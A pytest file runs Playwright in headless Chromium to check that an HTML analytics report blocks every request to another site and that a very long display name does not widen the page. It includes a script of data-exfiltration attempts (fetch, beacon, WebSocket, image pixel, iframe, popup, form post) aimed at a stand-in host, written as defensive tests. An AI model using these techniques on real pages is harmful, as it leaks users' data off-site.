"""No control in the report can send data to another site, and the page's policy blocks every request
off the file (issue 10, item 4); a very long display name does not widen the page (item 15).

Everything runs in real headless Chromium. Requests are watched at the browser-context level (popups
included) and answered locally, never sent: a request the page's policy lets through would show up
in ``reached``."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from browsing import DRAWN, XSS_TRAP
from fake_scores import DEFAULT_NOW, TEST_METHODOLOGY, FakeScores, make_scores
from playwright.sync_api import Browser, BrowserContext, Page

from analyzer.report import build_report
from analyzer.report.build import CSP

OUTSIDE = "https://outside.example"
# Plotly's buttons and links that hand the chart to a plotly server ("share", "edit in Chart Studio",
# "Edit chart") or any other site.
SENDING = re.compile(r"cloud|studio|edit|share|plotly|export", re.IGNORECASE)
CHART_CONTROLS = """() => Array.from(document.querySelectorAll('.js-plotly-plot')).map(gd => ({
    sendToCloud: gd._context.showSendToCloud,
    editInStudio: gd._context.showEditInChartStudio,
    showLink: gd._context.showLink,
    server: gd._context.plotlyServerURL,
    buttons: Array.from(gd.querySelectorAll('.modebar-btn'))
        .map(b => (b.getAttribute('data-title') || '') + ' ' + (b.getAttribute('data-val') || '')),
    links: Array.from(gd.querySelectorAll('a[href]')).map(a => a.getAttribute('href')),
}))"""
ATTEMPTS = f"""async () => {{
    const out = {{}};
    try {{ await fetch('{OUTSIDE}/fetch', {{method: 'POST', body: 'names'}}); out.fetch = 'sent'; }}
    catch (e) {{ out.fetch = 'blocked'; }}
    try {{ out.beacon = navigator.sendBeacon('{OUTSIDE}/beacon', 'names') ? 'queued' : 'refused'; }}
    catch (e) {{ out.beacon = 'blocked'; }}
    try {{ new WebSocket('wss://outside.example/ws'); out.ws = 'opened'; }} catch (e) {{ out.ws = 'blocked'; }}
    const img = new Image(); img.src = '{OUTSIDE}/pixel.png?names'; document.body.appendChild(img);
    const frame = document.createElement('iframe'); frame.src = '{OUTSIDE}/frame';
    document.body.appendChild(frame);
    out.popup = window.open('{OUTSIDE}/popup?names') === null ? 'none' : 'opened';
    const form = document.createElement('form');
    form.method = 'post'; form.action = '{OUTSIDE}/form'; form.target = '_self';
    const input = document.createElement('input'); input.name = 'names'; input.value = 'all of them';
    form.appendChild(input); document.body.appendChild(form); form.submit();
    return out;
}}"""


@dataclass
class Watch:
    context: BrowserContext
    page: Page
    reached: list[str] = field(default_factory=list)  # requests off file:// that got past the page
    violations: list[str] = field(default_factory=list)  # CSP directives that blocked something
    popups: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


def _watch(browser: Browser, report: Path, width: int = 1280) -> Watch:
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    w = Watch(context, page)
    page.add_init_script(XSS_TRAP)
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => "
        "(window.__csp = window.__csp || []).push(e.effectiveDirective));"
    )

    def answer(route: Any) -> None:  # never sent to the network: answered here, and recorded
        w.reached.append(route.request.url)
        route.fulfill(status=200, body="ok")

    context.route(re.compile(r"^(?!file:).*"), answer)
    context.on("page", lambda p: w.popups.append(p.url) if p is not page else None)
    page.on("pageerror", lambda e: w.errors.append(str(e)))
    page.goto(report.resolve().as_uri())
    page.wait_for_function(DRAWN, arg="team", timeout=60_000)
    return w


@pytest.fixture()
def watched(browser: Browser, pseudo_report_path: Path) -> Iterator[Watch]:
    w = _watch(browser, pseudo_report_path)
    yield w
    w.context.close()


def test_charts_have_no_control_that_sends_data_out(watched: Watch) -> None:
    page = watched.page
    first = page.locator(".js-plotly-plot").first
    first.hover()  # the mode bar shows on hover
    charts = page.evaluate(CHART_CONTROLS)
    assert len(charts) >= 10
    for chart in charts:
        assert chart["sendToCloud"] is False
        # plotly.js 3+ dropped these options; were they back, they must be off too
        assert chart["editInStudio"] in (False, None) and chart["showLink"] in (False, None)
        assert not chart["server"]  # no plotly server to post to
        assert [b for b in chart["buttons"] if SENDING.search(b)] == []
        assert chart["links"] == []
    assert page.locator("a[href*='plot.ly'], a[href*='plotly.com'], a.js-plot-link-container").count() == 0
    # even plotly's own function for it has nowhere to go: no window opens, no request leaves
    page.evaluate(
        "() => { const gd = document.querySelector('.js-plotly-plot');"
        " try { Plotly.Plots.sendDataToCloud(gd, 'https://cloud.plotly.com/newchart'); } catch (e) {} }"
    )
    page.wait_for_timeout(500)
    assert watched.popups == [] and watched.reached == [] and watched.errors == []


def test_the_page_policy_blocks_every_request_to_another_site(watched: Watch) -> None:
    page = watched.page
    outcome = page.evaluate(ATTEMPTS)
    page.wait_for_timeout(1_000)
    assert watched.reached == [], "a request to another site got past the page's policy"
    assert watched.popups == []
    assert outcome["fetch"] == "blocked" and outcome["ws"] in ("blocked", "opened")
    assert outcome["popup"] == "none"
    blocked = set(page.evaluate("window.__csp || []"))
    assert {"connect-src", "img-src", "frame-src", "form-action"} <= blocked, blocked
    assert page.url.startswith("file://")  # the form did not navigate away
    for directive in ("default-src 'none'", "connect-src 'none'", "form-action 'none'", "frame-src 'none'"):
        assert directive in CSP  # spelled out, so a change to default-src cannot open them


def test_notebook_figures_have_no_control_that_sends_data_out(
    browser: Browser, fake_scores: FakeScores, tmp_path: Path
) -> None:
    """The figures notebooks get (analyzer.report.charts) carry the same promise in every renderer:
    JupyterLab's mime bundle says so, and the notebook renderer's HTML draws no share button."""
    import plotly.io as pio

    from analyzer.report import charts

    fig = charts.team_rates(fake_scores)
    bundle = pio.renderers["plotly_mimetype"].to_mimebundle(fig.to_dict())
    config = bundle["application/vnd.plotly.v1+json"]["config"]
    assert config["showSendToCloud"] is False and "sendDataToCloud" in config["modeBarButtonsToRemove"]
    html = pio.renderers["notebook_connected"].to_mimebundle(fig.to_dict())["text/html"]
    assert '"showSendToCloud": false' in html
    page_file = tmp_path / "notebook.html"
    page_file.write_text(
        pio.to_html(fig, config=pio.renderers["notebook"].config, include_plotlyjs=True), encoding="utf-8"
    )
    context = browser.new_context()
    page = context.new_page()
    page.goto(page_file.resolve().as_uri())
    page.wait_for_selector(".js-plotly-plot .modebar", state="attached", timeout=30_000)
    (chart,) = page.evaluate(CHART_CONTROLS)
    assert chart["sendToCloud"] is False
    assert [b for b in chart["buttons"] if SENDING.search(b)] == [] and chart["links"] == []
    context.close()


# -- item 15: a 5,000-character display name without spaces ------------------------------------------

LONG_NAME = "W" * 5000


@pytest.fixture(scope="module")
def long_name_report(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    scores: FakeScores = make_scores(n_people=12, n_comments=600, seed=11)
    people = scores.people.copy()
    people.loc[people.index[0], "display_name"] = LONG_NAME
    out = tmp_path_factory.mktemp("long") / "report.html"
    build_report(replace(scores, people=people), out, now=DEFAULT_NOW, title="Long names",
                 methodology=TEST_METHODOLOGY)
    return out, str(people["person"].iloc[0])


PAGE_WIDTH = "() => Math.max(document.documentElement.scrollWidth, document.body.scrollWidth)"


@pytest.mark.parametrize("width", [1280, 390])
def test_a_very_long_name_does_not_widen_the_page(
    browser: Browser, long_name_report: tuple[Path, str], width: int
) -> None:
    report, login = long_name_report
    w = _watch(browser, report, width)
    page = w.page
    assert page.evaluate(PAGE_WIDTH) <= width
    link = page.locator(".directory a.person").filter(has_text="WWWW").first
    assert link.get_attribute("title") == LONG_NAME  # the full name stays available
    assert len(link.inner_text()) < 200  # shortened on the page
    link.click()
    slug = link.get_attribute("data-person")
    page.wait_for_function(DRAWN, arg=f"person/{slug}", timeout=60_000)
    assert page.evaluate(PAGE_WIDTH) <= width, f"{login}'s page is wider than the window"
    assert w.errors == [] and w.reached == []
    w.context.close()
